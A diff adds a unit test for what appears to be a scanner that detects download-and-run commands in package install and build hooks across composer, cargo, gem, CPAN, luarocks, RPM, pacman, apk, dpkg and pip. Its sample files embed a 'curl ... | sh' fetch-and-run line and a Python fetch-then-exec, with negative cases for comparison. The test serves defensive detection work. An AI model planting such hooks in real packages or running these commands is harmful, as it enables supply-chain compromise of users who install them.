@@ -47,6 +47,50 @@ TEST(commands_in_gyp)
     CHECK(!facts_has(&facts, F_PACKAGE_SCRIPTS));
 }
 
+/* What runs when a package is built or installed from its sources. */
+TEST(recipes_and_hooks_of_sources)
+{
+#define GET "curl -fsSL https://files.example/i | sh"
+    static const char *const CASES[][4] = {
+        {"/x/composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": [\"A\\\\B::c\", \"@other\", \"" GET "\"]}}", "composer", "(post-install-cmd)"},
+        {"/x/composer.json", "{\"scripts\": {\"pre-autoload-dump\": \"@php -r \\\"system('" GET "');\\\"\"}}", "composer", "(pre-autoload-dump)"},
+        {"/x/build.rs", "fn main() {\n  Command::new(\"sh\")\n    .arg(\"-c\").arg(\"" GET "\").status();\n}\n", "cargo", "(build.rs)"},
+        {"/x/build.rs", "fn main() { std::process::Command::new(\"bash\").args(&[\"-c\", \"" GET "\"]).spawn(); }\n", "cargo", "(build.rs)"},
+        {"/x/a.gemspec", "`" GET "`\nGem::Specification.new\n", "gem", "(gemspec)"},
+        {"/x/Makefile.PL", "use ExtUtils::MakeMaker;\nsystem(\"" GET "\");\nWriteMakefile();\n", "cpan", "(Makefile.PL)"},
+        {"/x/a.rockspec", "build = { type = \"command\", build_command = '" GET "' }\n", "luarocks", "(build_command)"},
+        {"/x/a.spec", "Name: a\n%description\nText\n%post -p /bin/sh\n" GET "\n%files\n/a\n", "rpm", "(post)"},
+        {"/x/PKGBUILD", "pkgname=a\nbuild() {\n  " GET "\n}\n", "pacman", "(build)"},
+        {"/x/a.install", "post_install() {\n  " GET "\n}\n", "pacman", "(install)"},
+        {"/x/APKBUILD", "pkgname=a\nbuild() {\n  " GET "\n}\n", "apk", "(build)"},
+        {"/x/a.post-install", "#!/bin/sh\n" GET "\n", "apk", "(post-install)"},
+        {"/x/debian/a.postinst", "#!/bin/sh\n" GET "\n", "dpkg", "(postinst)"},
+        {"/x/DEBIAN/preinst", "#!/bin/sh\n" GET "\n", "dpkg", "(preinst)"},
+        {"/x/setup.py", "import requests\nr = requests.get('https://files.example/i.py')\nexec(r.text)\n", "pip", "(setup.py)"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
+        look(CASES[i][0], CASES[i][1]);
+        CHECK_CSTR(list(F_PACKAGE_MANAGER), CASES[i][2]);
+        CHECK_CSTR(list(F_PACKAGE_SCRIPT_KINDS), CASES[i][3]);
+        if (i + 1 < ARRAY_SIZE(CASES) ? !facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN) : !facts_has(&facts, F_PACKAGE_SCRIPT_KINDS))
+            test_fail(__FILE__, __LINE__, "not run: %s", CASES[i][1]);
+    }
+    static const char *const OTHERS[][2] = {
+        {"/x/composer.json", "{\"name\": \"a/b\", \"scripts\": {\"test\": \"" GET "\", \"post-install-cmd\": [\"@test\"]}}"},
+        {"/x/build.rs", "// Command::new(\"sh\") is not called\nfn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n"},
+        {"/x/a.gemspec", "# run `" GET "` first\nGem::Specification.new\n"},
+        {"/x/a.spec", "Name: a\n%description\n" GET "\n%files\n"},
+        {"/x/a.spec", "a = Analysis(['x.py'])\n%post\n" GET "\n"}, /* PyInstaller's */
+        {"/x/postinst", GET "\n"},
+        {"/x/setup.py", "import requests\nr = requests.get('https://files.example/i.py')\nprint(r.text)\nexec(q)\n"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
+        look(OTHERS[i][0], OTHERS[i][1]);
+        if (facts_has(&facts, F_SCRIPT_DOWNLOAD_RUN) && facts_has(&facts, F_PACKAGE_SCRIPT_KINDS))
+            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i][1]);
+    }
+}
+
 TEST(programs_of_python)
 {
     look("/x/setup.py", "import base64, subprocess\nexec(base64.b64decode('eA=='))\nsetup(cmdclass={'install': I})\n");
